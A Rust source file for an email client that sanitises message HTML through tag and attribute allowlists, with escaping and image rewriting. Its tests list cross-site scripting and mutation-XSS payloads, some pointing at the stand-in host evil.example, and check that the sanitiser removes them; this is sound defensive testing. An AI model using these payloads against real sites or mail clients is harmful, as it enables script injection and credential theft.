//! A page of a message made safe to show: nothing in it runs, loads anything, looks as if it were of whoever shows it, or
//! lies outside of its own.
//!
//! The page is cut into tags and text by html5gum, which does as browsers do and makes no tree, and written anew from
//! what is known to be harmless: tags and attributes of two short lists, and text, all of which is escaped. Comments,
//! raw text (style, script, noscript …), SVG and MathML are no part of it, so a browser that reads it again finds what was
//! written and nothing else. Tags are closed in their order, and nest so deep and no deeper. It takes time and memory in
//! proportion to the page; a library that makes a tree of it does not, whatever a page does.
//!
//! Images are only named, as nothing is loaded: those of the message by their parts, those from outside by their addresses.

use std::{collections::HashMap, convert::Infallible};

use html5gum::{
    Emitter, ForwardingEmitter, Span, State, Tokenizer,
    emitters::callback::{Callback, CallbackEmitter, CallbackEvent},
};

use crate::api::{OF_PART, OUTSIDE};

/// Tags that lie within each other.
const DEEPEST: usize = 100;
/// Bytes of an attribute at most; a longer one is left out.
const ATTRIBUTE: usize = 4000;

/// Tags that have no end, and those that have one.
const VOID: [&str; 5] = ["br", "hr", "wbr", "col", IMAGE];
const IMAGE: &str = "img";
const TAGS: [&str; 63] = [
    "a",
    "abbr",
    "address",
    "article",
    "aside",
    "b",
    "bdo",
    "big",
    "blockquote",
    "caption",
    "center",
    "cite",
    "code",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "i",
    "ins",
    "kbd",
    "li",
    "main",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "tt",
    "u",
];
/// Those among them that may be within each other without a page saying so: each ends one before it.
const ENDS_ITSELF: [&str; 6] = ["p", "li", "dd", "dt", "td", "th"];
const ATTRIBUTES: [&str; 12] = [
    "align",
    "bgcolor",
    "border",
    "cellpadding",
    "cellspacing",
    "color",
    "colspan",
    "dir",
    "height",
    "rowspan",
    "valign",
    "width",
];
/// Where links may lead.
const SCHEMES: [&str; 3] = ["http", "https", "mailto"];

/// `page` without whatever is not safe. `parts` are the parts of its message that have a Content-ID, by that.
pub fn safe(page: &str, parts: HashMap<String, usize>) -> String {
    let mut reading = Reading(CallbackEmitter::new(Writer {
        parts,
        ..Writer::default()
    }));
    let Ok(()) = Tokenizer::new_with_emitter(page, &mut reading).finish();
    let mut writer = std::mem::take(reading.0.callback_mut());
    while writer.close_last() {}
    writer.html
}

/// Tells the tokenizer how to go on behind a tag.
struct Reading(CallbackEmitter<Writer>);

impl ForwardingEmitter for &mut Reading {
    type Token = Infallible;

    fn inner(&mut self) -> &mut impl Emitter<Token = Infallible> {
        &mut self.0
    }

    fn emit_current_tag(&mut self) -> Option<State> {
        let _ = self.0.emit_current_tag();
        self.0.callback_mut().behind_tag.take()
    }
}

#[derive(Default)]
struct Writer {
    html: String,
    parts: HashMap<String, usize>,
    /// The tags that are open, the innermost last.
    open: Vec<&'static str>,
    /// The tag that is being read; `None` where it is left out.
    tag: Option<&'static str>,
    /// Its attributes, as they are written once it has come to its end.
    attributes: String,
    /// Its attribute that is being read.
    attribute: Option<&'static str>,
    /// What it holds is no text that is shown: not to be read as tags.
    raw: Option<State>,
    behind_tag: Option<State>,
    is_hidden: bool,
}

impl Callback<Infallible, ()> for Writer {
    fn handle_event(&mut self, event: CallbackEvent<'_>, _: Span<()>) -> Option<Infallible> {
        match event {
            CallbackEvent::String { value } if !self.is_hidden => self.write(&String::from_utf8_lossy(value)),
            CallbackEvent::OpenStartTag { name } => self.begin(name),
            CallbackEvent::AttributeName { name } => self.attribute = self.known_attribute(name),
            CallbackEvent::AttributeValue { value } => {
                if let Some(name) = self.attribute.take() {
                    self.attribute(name, &String::from_utf8_lossy(value));
                }
            }
            CallbackEvent::CloseStartTag { .. } => {
                if let Some(tag) = self.tag.take() {
                    self.start(tag);
                }
                self.attribute = None;
                if let Some(state) = self.raw.take() {
                    self.behind_tag = Some(state);
                    self.is_hidden = true;
                }
            }
            CallbackEvent::EndTag { name } => {
                self.is_hidden = false;
                self.end(name);
            }
            _ => {}
        }
        None
    }
}

impl Writer {
    fn begin(&mut self, name: &[u8]) {
        self.raw = match name {
            b"script" => Some(State::ScriptData),
            b"style" | b"iframe" | b"noembed" | b"noframes" | b"noscript" | b"xmp" => Some(State::RawText),
            b"title" | b"textarea" => Some(State::RcData),
            b"plaintext" => Some(State::PlainText),
            _ => None,
        };
        let known = VOID.iter().chain(&TAGS).find(|known| known.as_bytes() == name);
        self.tag = known.copied();
        self.attributes.clear();
        if self.tag == Some("a") {
            // Whoever is asked learns nothing of where it was asked from, and cannot reach back.
            let fixed = " target=\"_blank\" rel=\"noopener noreferrer nofollow\"";
            self.attributes.push_str(fixed);
        }
    }

    /// Writes a tag that has come to its end.
    fn start(&mut self, tag: &'static str) {
        let names = |what: &str| self.attributes.contains(what);
        if tag == IMAGE && !names(OF_PART) && !names(OUTSIDE) {
            return;
        }
        if !VOID.contains(&tag) {
            if ENDS_ITSELF.contains(&tag) && self.open.last() == Some(&tag) {
                self.close_last();
            }
            if self.open.len() == DEEPEST {
                return;
            }
            self.open.push(tag);
        }
        for piece in ["<", tag, &self.attributes, ">"] {
            self.html.push_str(piece);
        }
    }

    /// Closes a tag, and those within it. One that is not open is left out.
    fn end(&mut self, name: &[u8]) {
        let Some(at) = self.open.iter().rposition(|open| open.as_bytes() == name) else {
            return;
        };
        while self.open.len() > at {
            self.close_last();
        }
    }

    fn close_last(&mut self) -> bool {
        let Some(tag) = self.open.pop() else { return false };
        self.html.push_str("</");
        self.html.push_str(tag);
        self.html.push('>');
        true
    }

    fn known_attribute(&self, name: &[u8]) -> Option<&'static str> {
        match (self.tag?, name) {
            ("a", b"href") => Some("href"),
            (IMAGE, b"src") => Some("src"),
            (IMAGE, b"alt") => Some("alt"),
            _ => ATTRIBUTES.into_iter().find(|known| known.as_bytes() == name),
        }
    }

    fn attribute(&mut self, name: &'static str, value: &str) {
        let value = value.trim();
        if name == "src" {
            return self.image(value);
        }
        let fits = match name {
            "href" => leads_somewhere(value),
            "alt" => true,
            // Numbers, colours and words.
            _ => value
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || b"#%.- ".contains(&byte)),
        };
        if value.len() <= ATTRIBUTE && fits {
            for piece in [" ", name, "=\""] {
                self.attributes.push_str(piece);
            }
            escape(value, &mut self.attributes);
            self.attributes.push('"');
        }
    }

    /// Names an image; of several the first, as browsers do.
    fn image(&mut self, address: &str) {
        if self.attributes.contains(OF_PART) || self.attributes.contains(OUTSIDE) || address.len() > ATTRIBUTE {
            return;
        }
        let named = address
            .split_at_checked(4)
            .filter(|(scheme, _)| scheme.eq_ignore_ascii_case("cid:"));
        if let Some((_, id)) = named {
            let id = percent_encoding::percent_decode_str(id).decode_utf8_lossy();
            if let Some(part) = self.parts.get(&*id) {
                self.attributes.push_str(&format!("{OF_PART}{part}\""));
            }
        } else if leads_to_the_web(address) {
            self.attributes.push_str(OUTSIDE);
            escape(address, &mut self.attributes);
            self.attributes.push('"');
        }
    }

    fn write(&mut self, text: &str) {
        escape(text, &mut self.html);
    }
}

/// Writes a text so that nothing in it is markup.
fn escape(text: &str, html: &mut String) {
    for letter in text.chars() {
        match letter {
            '<' => html.push_str("&lt;"),
            '>' => html.push_str("&gt;"),
            '&' => html.push_str("&amp;"),
            '"' => html.push_str("&quot;"),
            '\'' => html.push_str("&#39;"),
            '\n' | '\t' => html.push(letter),
            letter if letter.is_control() => html.push(' '),
            letter => html.push(letter),
        }
    }
}

/// Whether a link is a whole address of the web or of mail.
fn leads_somewhere(link: &str) -> bool {
    let scheme = link.split_once(':').map(|(scheme, _)| scheme);
    let is_known = |scheme: &str| SCHEMES.iter().any(|known| known.eq_ignore_ascii_case(scheme));
    scheme.is_some_and(is_known) && !link.contains(char::is_control)
}

fn leads_to_the_web(link: &str) -> bool {
    leads_somewhere(link)
        && !link
            .get(..7)
            .is_some_and(|scheme| scheme.eq_ignore_ascii_case("mailto:"))
}

#[cfg(test)]
mod tests {
    use std::time::{Duration, Instant};

    use proptest::prelude::*;

    use super::*;

    fn safe(page: &str) -> String {
        super::safe(page, HashMap::from([("logo@x".to_owned(), 2)]))
    }

    #[test]
    fn images_are_named_and_not_loaded() {
        assert_eq!(
            safe("<p><img SRC=\"CID:logo%40x\" alt='a \"b\" <c>' onerror=x><img src=cid:other>"),
            "<p><img data-part=\"2\" alt=\"a &quot;b&quot; &lt;c&gt;\"></p>"
        );
        assert_eq!(
            safe(
                "<img src='https://x.example/?a=1&b=2' src=cid:logo@x width=1><img src=/x><img src=mailto:x><img src=data:x>"
            ),
            "<img data-src=\"https://x.example/?a=1&amp;b=2\" width=\"1\">"
        );
        // Nobody names one by an attribute of ours, or in text.
        assert_eq!(
            safe("<img data-part=2 data-src=https://x><p data-src=\"https://x\"> data-src=\"x"),
            "<p> data-src=&quot;x</p>"
        );
        assert_eq!(safe("<img alt=' data-src=\"x' title=' data-part=\"2'>"), "");
    }

    #[test]
    fn what_is_harmless_stays() {
        let page = "<!DOCTYPE html><html><head><title>t</title><style>p { color: red }</style></head><body bgcolor=white>\
                    <p>Dear <b>Jane</b>,<p align=\"center\">a &lt; b &amp; c<br>\
                    <a href='https://example.com/?a=1&b=2'>here</a></body></html>";
        assert_eq!(
            safe(page),
            "<p>Dear <b>Jane</b>,</p><p align=\"center\">a &lt; b &amp; c<br><a target=\"_blank\" \
             rel=\"noopener noreferrer nofollow\" href=\"https://example.com/?a=1&amp;b=2\">here</a></p>"
        );
        assert_eq!(
            safe("<table><tr><td>1<td>2<tr><td>3</table>x"),
            "<table><tr><td>1</td><td>2<tr><td>3</td></tr></td></tr></table>x"
        );
        assert_eq!(safe("a</p></div>b"), "ab");
    }

    #[test]
    fn nothing_runs_or_is_loaded() {
        for page in [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<p onclick=\"alert(1)\" style=\"background: url(//evil.example)\">x",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" java\nscript:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<a href=\"//evil.example\">x</a>",
            "<a href=\"/api/v1/session\">x</a>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<form action=//evil.example><input name=password></form>",
            "<iframe src=//evil.example></iframe>",
            "<object data=x></object><embed src=x><applet>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\"><base href=//evil.example><link rel=stylesheet href=x>",
            "<table background=//evil.example><td bgcolor=\"url(x)\">",
            "<!--><img src=x onerror=alert(1)>-->",
            "<p title=\"><img src=x onerror=alert(1)>\">x",
            "<textarea><img src=x onerror=alert(1)></textarea>",
            "<plaintext><img src=x onerror=alert(1)>",
            "<b <script>alert(1)</script>",
            "<p align='\"><img src=x onerror=alert(1)>'>",
        ] {
            is_harmless(&safe(page), page);
        }
    }

    /// Read again, it has tags and attributes of the lists alone, in their order.
    fn is_harmless(html: &str, page: &str) {
        let mut rest = html;
        let mut open = Vec::new();
        while let Some(at) = rest.find('<') {
            assert!(!rest[..at].contains('>'), "{page}: {html}");
            let end = rest[at..].find('>').unwrap_or_else(|| panic!("{page}: {html}"));
            let tag = &rest[at + 1..at + end];
            rest = &rest[at + end + 1..];
            if let Some(name) = tag.strip_prefix('/') {
                assert_eq!(open.pop(), Some(name), "{page}: {html}");
                continue;
            }
            let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
            assert!(TAGS.contains(&name) || VOID.contains(&name), "{page}: {html}");
            if !VOID.contains(&name) {
                open.push(name);
            }
            let mut attributes = attributes;
            while let Some((attribute, value)) = attributes.split_once("=\"") {
                let (value, more) = value.split_once('"').unwrap();
                let attribute = attribute.trim();
                let others = ["href", "target", "rel", "alt", "data-part", "data-src"];
                let known = ATTRIBUTES.contains(&attribute) || others.contains(&attribute);
                let leads = ["href", "data-src"].contains(&attribute);
                assert!(known && (!leads || leads_somewhere(value)), "{page}: {html}");
                attributes = more;
            }
            assert_eq!(attributes.trim(), "", "{page}: {html}");
        }
        assert!(open.is_empty() && !rest.contains('>'), "{page}: {html}");
    }

    #[test]
    fn a_page_takes_time_and_memory_in_proportion_to_it() {
        for piece in [
            "<div>",
            "<b><p>",
            "<table><tr><td>",
            "</x>",
            "<a href=x>",
            "<p a=b>",
            "<!--",
            "&amp;",
            "<svg>",
        ] {
            let page = piece.repeat((1 << 20) / piece.len());
            let began = Instant::now();
            let html = safe(&page);
            assert!(began.elapsed() < Duration::from_secs(20), "{piece}");
            assert!(html.len() < 30 << 20, "{piece}: {}", html.len());
        }
    }

    const PIECES: [&str; 24] = [
        "<",
        ">",
        "\"",
        "'",
        "=",
        "/",
        "<!--",
        "-->",
        "<p",
        "<a href=",
        "https://x",
        "javascript:",
        "<script",
        "</script>",
        "<svg>",
        "<style>",
        "</style>",
        "<title>",
        "<textarea>",
        "<plaintext>",
        " onerror=x",
        "&lt;",
        "\0",
        "<td",
    ];

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(3_000))]

        #[test]
        fn whatever_a_page_is_nothing_else_comes_of_it(pieces in prop::collection::vec(0..PIECES.len(), 0..40)) {
            let page: String = pieces.into_iter().map(|piece| PIECES[piece]).collect();
            is_harmless(&safe(&page), &page);
        }
    }
}
